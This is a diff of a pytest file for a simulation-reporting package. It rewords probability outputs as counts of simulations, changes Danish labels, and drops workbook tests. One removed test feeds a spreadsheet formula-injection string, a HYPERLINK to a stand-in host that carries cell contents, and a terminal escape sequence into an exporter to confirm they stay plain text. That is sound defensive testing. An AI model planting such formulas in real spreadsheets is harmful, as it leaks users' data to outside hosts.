@@ -9,23 +9,19 @@ import re
 import string
 from html.parser import HTMLParser
 from pathlib import Path
-from types import SimpleNamespace
 
 import matplotlib.text
 import numpy as np
-import openpyxl
 import pytest
 
 from samspil.experiments import reading
 from samspil.experiments.columns import columns
-from samspil.experiments.tables import write_xlsx
 from samspil.model.parameters import registry
 from samspil.reports import (
     ranking,
     spreadsheet,
     style,
     tables,
-    workbook,
     write_figures,
     write_report,
     write_sensitivity,
@@ -39,6 +35,7 @@ from samspil.reports.figures.tornado import tornado
 from samspil.reports.flags import FLAG, flagged
 from samspil.reports.formats import HARD_SPACE, MISSING
 from samspil.reports.gallery import gallery
+from samspil.reports.language.likelihood import scale
 from samspil.reports.report import picture, render
 from samspil.reports.sections import sections
 from samspil.reports.tables import countings
@@ -172,7 +169,7 @@ def test_bounds_have_two_figures(bound, english):
 
 
 def test_danish_shares_and_months():
-    assert words("da").numbers.percent(0.025) == f"2,5{HARD_SPACE}%"
+    assert words("da").numbers.percent(0.025) == f"2,5{HARD_SPACE}pct."
     assert words("da").numbers.month("2030-12") == f"december{HARD_SPACE}2030"
     assert words("da").numbers.month(None) == MISSING
     assert words("da").numbers.figures(0.00123456) == "0,00123"
@@ -302,16 +299,27 @@ def test_labels_are_spread_in_their_order():
 # --- the answer
 
 
-def test_zero_of_n_is_said_with_its_bound():
-    text = sentences(told(Size(6, 2, middle=300, levels=("estimated",))))["likely"]
-    assert "No draw out of 6 reaches 10,000 freed FTE by December 2030" in text
-    assert "below 39%" in text
+def test_a_chance_that_no_simulation_shows_is_never_a_bound_alone():
+    shown = told(Size(24, 2, middle=300, levels=("estimated",)))
+    text = sentences(shown)["likely"].replace(HARD_SPACE, " ")
+    highest = words("en").numbers.amount(float(shown.at(shown.baseline, shown.date).max()))
+    told_of = f"reached under {shown.title(shown.baseline)} is unlikely (in none of 48 simulations; the highest reached"
+    assert f"{told_of} {highest})" in text
+    assert "below" not in text
 
 
 def test_a_probability_is_said_with_its_error():
-    text = sentences(told(Size(12, 2, middle=18000, levels=("estimated",))))["likely"]
-    assert re.search(r"The probability of 10,000 freed FTE .* is \d.*%", text)
-    assert "No draw" not in text
+    text = sentences(told(Size(24, 2, middle=18000, levels=("estimated",))))["likely"].replace(HARD_SPACE, " ")
+    assert re.search(
+        r"That 10,000 freed FTE by December 2030 .* is [a-z ]+ \(in \d+ of 48 simulations \(\d+%\)\)", text
+    )
+    assert "none of" not in text
+
+
+def test_so_few_draws_carry_no_word():
+    text = sentences(told(Size(6, 2, middle=300, levels=("estimated",))))["likely"]
+    assert "in none of 12 simulations; the highest reached" in text
+    assert not [term for term in scale() if f"is {term.text['en']}" in text]
 
 
 def test_what_cannot_be_told_apart_is_said_so():
@@ -356,7 +364,7 @@ def test_a_draw_is_said_to_run_as_often_as_it_did():
         shown = told()
         shown.summary["replicates"] = number
         terms = dict(next(section.terms for section in sections(shown, {}, {}) if section.terms))
-        assert terms["Draw"].endswith(f"each with luck of its own: {number}.")
+        assert terms["Draw"].endswith(f"each with chance events of its own: {number}.")
 
 
 def test_the_evidence_is_said_to_settle_what_carries_no_flag():
@@ -399,7 +407,7 @@ def test_a_chance_of_nothing_rests_on_independence():
     assert "rests on 269 numbers being independent" in text
     assert "it is, 25% of the way: 25%; 50% of the way: 75%" in text
     row = next(row for row in tables.variants(shown).rows if row.head == shown.title(name))
-    assert [cell.split(" (")[0].replace("\u00a0", " ") for cell in row.cells[1:]] == ["below 1%", "25%", "75%"]
+    assert [cell.split(" (")[0].replace("\u00a0", " ") for cell in row.cells[1:]] == ["none of 300", "25%", "75%"]
 
 
 @pytest.mark.parametrize("lang", LANGUAGES)
@@ -552,7 +560,7 @@ def test_the_number_of_other_policies_is_said_as_such(lang):
     one, many = others_words(1, words(lang)), others_words(6, words(lang))
     assert (one, many) == {
         "en": ("1 other policy was run", "6 other policies were run"),
-        "da": ("1 anden politik er kørt", "6 andre politikker er kørt"),
+        "da": ("1 andet scenarie er kørt", "6 andre scenarier er kørt"),
     }[lang]
     shown = told(Size(scenarios=("current-policy", "no-partnerships"), levels=("estimated",)), lang)
     assert one in sentences(shown)["likely"]
@@ -580,7 +588,7 @@ def test_no_figure_gives_a_probability_as_zero(name):
     shown = told(Size(6, 2, middle=5, levels=("estimated",)))
     texts = [text.replace(HARD_SPACE, " ") for text in drawn(gallery(shown)[name](shown))]
     assert "0%" not in texts
-    assert {"milestones": "< 39%", "countings": "below 39%"}[name] in texts
+    assert "0/6" in texts
 
 
 def test_no_table_gives_a_probability_as_zero():
@@ -591,7 +599,7 @@ def test_no_table_gives_a_probability_as_zero():
 
 @pytest.mark.parametrize("lang", LANGUAGES)
 def test_a_probability_is_a_share_of_draws(lang):
-    draws = {"en": "hare of draws", "da": "af trækninger"}[lang]
+    draws = {"en": "hare of draws", "da": "af sæt antagelser"}[lang]
     assert draws in words(lang)("term.chance.means")
     assert draws in words(lang)("fig.milestones.subtitle")
 
@@ -601,7 +609,7 @@ def test_few_draws_are_warned_of_beside_the_answer(draws, warned):
     shown = told(Size(2, 1, levels=("estimated",)))
     shown.summary["draws"] = draws
     answered = Page(render(shown, {}, {})).visible.split("How likely is it?")[0]
-    assert ("only test the machinery" in answered) is warned
+    assert ("only show that the computation works" in answered) is warned
 
 
 def test_changed_settings_stand_in_the_head():
@@ -652,7 +660,7 @@ def test_the_overview_says_how_far_it_is_to_the_target(lang):
     for each in shown.summary["scenarios"].values():
         each["potentials"][shown.level]["fte"][shown.date]["p50"] = 519.0
     texts = " ".join(drawn(gallery(shown)["overview"](shown))).replace(HARD_SPACE, " ")
-    assert {"en": "519 of 10,000 (5.2%)", "da": "519 af 10.000 (5,2 %)"}[lang] in texts
+    assert {"en": "519 of 10,000 (5.2%)", "da": "519 af 10.000 (5,2 pct.)"}[lang] in texts
 
 
 def test_a_level_that_half_of_the_runs_miss_still_tells_when_the_first_reach_it():
@@ -667,55 +675,17 @@ def test_shares_above_one_have_no_false_precision():
     assert words("en").numbers.percent(3.609) == "361%"
 
 
-RUN = {"commit": "1", "versions": {}, "digests": {"scenarios": {}, "evidence": "1"}}
-
-
-@pytest.mark.parametrize(("lang", "sheet"), [("en", "definitions"), ("da", "definitioner")])
-def test_the_workbook_explains_and_formats_its_columns(tmp_path, lang, sheet):
-    shown = told(lang=lang)
-    write_xlsx(tmp_path / "table.xlsx", shown.summary, [], RUN)
-    workbook.finish(tmp_path, shown)
-    book = openpyxl.load_workbook(tmp_path / "table.xlsx")
-    table = book.worksheets[0]
-    explained = {row[0]: row[1] for row in book[sheet].iter_rows(min_row=2, values_only=True)}
-    assert list(explained) == [cell.value for cell in table[1]]
-    assert all(explained.values())
-    formats = {cell.value: table.cell(2, cell.column).number_format for cell in table[1]}
-    heads = dict(zip((place.name for place in in_files(shown)), formats, strict=True))
-    assert (formats[heads["p_target"]], formats[heads["fte_2030-12_p50"]]) == ("0.0%", "#,##0.0")
-    if lang == "da":
-        text = " ".join(str(cell.value) for each in book.worksheets for row in each.iter_rows() for cell in row)
-        assert heads["p_target"].startswith("Chance for målet")
-        assert not re.search(r"\b(title_en|p_target|counting|source|assumed|per month)\b", text)
-    assert table.freeze_panes == "C2"
-    assert table.column_dimensions["A"].width > len("current-policy")
-    workbook.finish(tmp_path, shown)
-    assert openpyxl.load_workbook(tmp_path / "table.xlsx").sheetnames == book.sheetnames
-
-
 def test_a_danish_excel_opens_the_table_as_it_stands(tmp_path):
     shown = told(lang="da")
     content = spreadsheet.write(tmp_path, shown).read_bytes()
     assert content.startswith(b"\xef\xbb\xbf")
     heads, first, *_ = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
     assert len(heads) == len(set(heads)) == len(first)
-    assert heads[0] == "Politik"
+    assert heads[0] == "Scenarie"
     values = dict(zip((place.name for place in in_files(shown)), first, strict=True))
     known = shown.summary["scenarios"][shown.scenarios[0]]["potentials"][shown.levels[0]]["fte"]["2030-12"]["p50"]
     assert float(values["fte_2030-12_p50"].replace(",", ".")) == known
     assert "." not in values["fte_2030-12_p50"]
-
-
-def test_no_text_becomes_a_formula_and_none_stops_the_workbook(tmp_path):
-    shown = told()
-    source = '=HYPERLINK("http://example.org/?"&A1,"click")'
-    scenario = SimpleNamespace(name="mine", sources=[source, "a\x1b[2Jb", "اختبار 试验"])
-    write_xlsx(tmp_path / "table.xlsx", shown.summary, [scenario], RUN)
-    workbook.finish(tmp_path, shown)
-    book = openpyxl.load_workbook(tmp_path / "table.xlsx")
-    assert {cell.data_type for sheet in book for row in sheet for cell in row} <= {"s", "n"}
-    cells = [cell.value for sheet in book for row in sheet for cell in row]
-    assert {source, "a[2Jb", "اختبار 试验"} <= set(cells)
 
 
 @pytest.mark.parametrize("kind", ["money", "payers", "bought"])
